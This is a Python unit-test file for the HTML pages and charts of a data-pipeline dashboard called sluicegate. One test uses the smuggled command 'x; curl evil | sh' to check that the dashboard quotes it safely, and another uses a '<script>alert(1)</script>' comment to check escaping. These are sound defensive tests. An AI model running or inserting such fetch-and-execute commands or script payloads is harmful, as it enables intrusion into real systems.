"""How numbers are written, where the boxes of a graph stand, and what charts are made of; no Airflow is needed."""

from __future__ import annotations

import subprocess
import sys
from datetime import UTC, date, datetime, timedelta
from itertools import combinations

import pytest

from sluicegate.airflow.page import bars, graph_layout, html
from sluicegate.airflow.page.addresses import Addresses, Anchors
from sluicegate.dashboard.batches import Balance, CommittedBatch
from sluicegate.dashboard.days import Day
from sluicegate.dashboard.flow_graph import Edge, Graph, Node
from sluicegate.dashboard.one_table import ColumnSummary, TableDetails
from sluicegate.dashboard.overview import Line, PipelineBacklog, PipelineState
from sluicegate.dashboard.quarantined import QuarantineDetails, Reason
from tests.conftest import ROOT

pytestmark = pytest.mark.unit

NOW = datetime(2026, 3, 2, tzinfo=UTC)


def test_a_report_is_made_without_airflow() -> None:
    code = "import sys, sluicegate.airflow.page.report; print({'airflow', 'fastapi', 'pyspark'} & set(sys.modules))"
    done = subprocess.run([sys.executable, "-c", code], cwd=ROOT, capture_output=True, text=True, check=True)
    assert done.stdout.strip() == "set()"


@pytest.mark.parametrize(
    ("share", "text"),
    [(None, "–"), (1.0, "100%"), (0.999999, "> 99.99%"), (0.9999, "99.99%"), (0.925, "92.50%"), (0.9, "90%"),
     (0.0, "0%")],
)  # fmt: skip
def test_what_is_not_all_is_never_100_percent(share: float | None, text: str) -> None:
    assert html.percent(share) == text


def test_numbers_and_times_in_words() -> None:
    assert [html.number(one) for one in (None, 0, 1234567, 2.5)] == ["–", "0", "1,234,567", "2"]
    assert [html.seconds(one) for one in (None, 0.04, 59.9, 61, 3_600, 90_000)] == [
        "–", "0.0 s", "59.9 s", "1 min 1 s", "1 h 0 min", "1 d 1 h",
    ]  # fmt: skip
    past = [NOW - timedelta(seconds=one) for one in (0, 59, 60, 3_599, 3_600, 86_400)]
    assert [html.time_since(one, NOW) for one in past] == [
        "just now", "just now", "1 min ago", "59 min ago", "1 h ago", "1 d ago",
    ]  # fmt: skip
    assert html.time_since(None, NOW) == "never"
    assert (html.size(None), html.size(1500), html.moment(None)) == ("–", "1.5 kB", "–")


def test_the_home_page_says_what_each_state_means() -> None:
    """Also of a pipeline that nobody has to act on: one that never started may look into the wrong folder."""
    lines = [
        Line("p", PipelineState("never started"), "landing/ordrs does not exist"),
        Line("q", PipelineState("fine")),
    ]
    text = html.page("home", Addresses(""), view=lines, lake="/lake")
    assert text.count("landing/ordrs does not exist") == 1


def test_a_command_to_copy_has_no_other_one_in_it() -> None:
    view = QuarantineDetails("p", "t", 1, (), "x; curl evil | sh", (), False, ())
    text = html.page("quarantine", Addresses(""), view=view, pipeline="p", table="t", tab="quarantine", starts=False)
    assert "sluicegate replay p t --rule &#39;x; curl evil | sh&#39; --validate" in text


@pytest.mark.parametrize(("text", "shown"), [("n > 0", True), ("", False)])
def test_a_rule_that_the_definition_does_not_have_cannot_be_replayed(text: str, shown: bool) -> None:
    view = QuarantineDetails("p", "t", 1, (Reason("old", text, False, 1, None, None),), "old", (), False, ())
    page = html.page("quarantine", Addresses(""), view=view, pipeline="p", table="t", tab="quarantine", starts=True)
    assert ("quarantine/replay" in page) is shown


def test_each_state_of_a_pipeline_has_a_shape_and_a_colour() -> None:
    assert [state for state in PipelineState if state != "never started" and html.shape(state)[1] == "none"] == []
    assert html.shape("never heard of") == ("○", "none")


def graph(nodes: list[tuple[str, str]], edges: list[tuple[str, str]]) -> graph_layout.Placed:
    """A graph of nodes with their kinds; what leads to a quarantine is beside its table."""
    made = tuple(Node(name, kind, name.removeprefix("quarantine:").removeprefix("landing:")) for name, kind in nodes)
    flows = tuple(Edge(a, b, "quarantine" if b.startswith("quarantine:") else "stream") for a, b in edges)
    return graph_layout.place_graph(Graph("p", "", made, flows, (), None, PipelineBacklog()))


def test_boxes_stand_apart_and_each_after_what_it_reads() -> None:
    placed = graph(
        [("landing:a", "landing"), ("landing:b", "landing"), ("a", "bronze"), ("b", "bronze"), ("s", "silver"),
         ("t", "silver"), ("quarantine:s", "quarantine"), ("v", "view"), ("g", "gold"), ("h", "gold")],
        [("landing:a", "a"), ("landing:b", "b"), ("a", "s"), ("b", "t"), ("s", "t"), ("t", "v"), ("v", "g"), ("g", "h"),
         ("a", "h"), ("s", "quarantine:s")],
    )  # fmt: skip
    at = {box.node.key: box for box in placed.boxes}
    assert len(at) == 10
    for one, other in combinations(placed.boxes, 2):
        apart = one.x + one.width <= other.x or other.x + other.width <= one.x
        assert apart or one.y + one.height <= other.y or other.y + other.height <= one.y, (one, other)
    columns = ["landing:a", "a", "s", "t", "v", "g", "h"]
    assert [at[name].x for name in columns] == sorted({at[name].x for name in columns})
    assert at["quarantine:s"].y > at["s"].y
    assert [band.name for band in placed.bands] == ["Landing", "Bronze", "Silver", "Gold"]
    assert len(placed.curves) == 10
    assert all(box.x + box.width <= placed.width and box.y + box.height <= placed.height for box in placed.boxes)


def test_an_edge_passes_a_column_where_no_box_is() -> None:
    placed = graph(
        [("landing:a", "landing"), ("a", "bronze"), ("s", "silver"), ("g", "gold")],
        [("landing:a", "a"), ("a", "s"), ("s", "g"), ("a", "g")],
    )
    silver = next(box for box in placed.boxes if box.node.key == "s")
    long = next(curve for curve in placed.curves if (curve.edge.source, curve.edge.target) == ("a", "g"))
    height = float(long.path.split("H")[0].split()[-1])
    assert not silver.y <= height <= silver.y + silver.height


def test_a_graph_without_a_run_says_nothing_of_one() -> None:
    nodes = Node("landing/a", "landing", "a"), Node("a", "bronze", "a", "no table")
    view = Graph("p", "", nodes, (Edge("landing:a", "a", "stream"),), (), None, PipelineBacklog())
    text = html.page("graph", Addresses(), view=view, pipeline="p", tab="graph", key=None)
    assert "by this run" not in text
    assert "files in this run" not in text
    assert "no run yet" in text


def test_an_empty_pipeline_has_an_empty_graph() -> None:
    assert graph([], []).boxes == ()


def test_a_bar_shows_each_part_that_is_there_and_no_more() -> None:
    batches = [
        CommittedBatch(NOW, "silver", "t", 0, balance=Balance(1000, None, 0, 998, 1, 0, 1)),
        CommittedBatch(NOW, "silver", "t", 1, balance=Balance(0)),
    ]
    (first, second) = [shapes for _, shapes in bars.stacked(batches, 720, 120)]
    assert [shape.kind for shape in first] == ["written", "quarantined", "duplicates"]
    assert min(shape.height for shape in first) >= 2  # a single row is seen
    assert second == ()
    assert bars.stacked([]) == ()
    assert [shape.kind for shape in bars.small([0, 3])] == ["none", "some"]


def test_a_line_begins_at_its_least_share() -> None:
    assert bars.line([None]) == ""
    assert bars.line([1.0, 0.5, None, 1.0], 30, 24) == "0.0,2.0 10.0,22.0 30.0,2.0"


def test_a_calendar_has_a_column_for_each_week() -> None:
    days = [Day(date(2026, 3, 1) + timedelta(days=n), n) for n in range(9)]  # from a Sunday on
    cells, months, width = bars.calendar(days)
    assert [cell.x // bars.CELL for _, cell in cells] == [0, *[1] * 7, 2]
    assert [cell.kind for _, cell in cells][:2] == ["level0", "level1"]
    assert cells[-1][1].kind == "level4"
    assert [month.name for month in months] == ["Mar 2026"]
    assert width == 3 * bars.CELL
    assert bars.calendar([]) == ((), (), 0)


def test_addresses_are_relative_and_quoted() -> None:
    at = Addresses("../../")
    assert at.run("p", "manual__2026-03-02T00:00:00+00:00") == (
        "../../p/p/run?key=manual__2026-03-02T00%3A00%3A00%2B00%3A00"
    )
    assert at.table("p", "../x") == "../../p/p/t/..%2Fx"
    assert Addresses().home == "./"
    assert at.dag_run("p", "a b") == "../../../dags/p/runs/a%20b"
    assert at.column("p", "t", "a b") == "../../p/p/t/t#column-t-a%20b"
    report = Anchors(pipeline="p", columns=frozenset({"column-t-a b"}))
    assert (report.table("p", "t"), report.run("p", "x"), report.dag("p")) == ("#table-t", "", "")
    assert (report.column("p", "t", "a b"), report.graph("p")) == ("#column-t-a%20b", "#graph")
    assert report.column("p", "t", "later") == "#table-t"
    # What is of another pipeline is not in the file, even if a table here has its name.
    assert (report.table("q", "t"), report.column("q", "t", "a"), report.graph("q")) == ("", "", "")


def test_a_table_of_1000_columns_and_html_in_its_comments() -> None:
    columns = (ColumnSummary("_pos", "BIGINT", of_engine=True),
               *(ColumnSummary(f"c{n}", "STRING", "<script>alert(1)</script>") for n in range(999)))  # fmt: skip
    view = TableDetails("p", "silver", "t", comment="<b>bold</b>", exists=True, columns=columns, rows=1)
    text = html.page("table", Addresses(), view=view, pipeline="p", tab="table", table="t")
    assert text.index('id="column-t-c998"') < text.index('id="column-t-_pos"')  # which is the engine's
    assert text.count('<td data-label="Type"') == 1000
    assert "<script>alert" not in text
    assert "&lt;b&gt;bold" in text
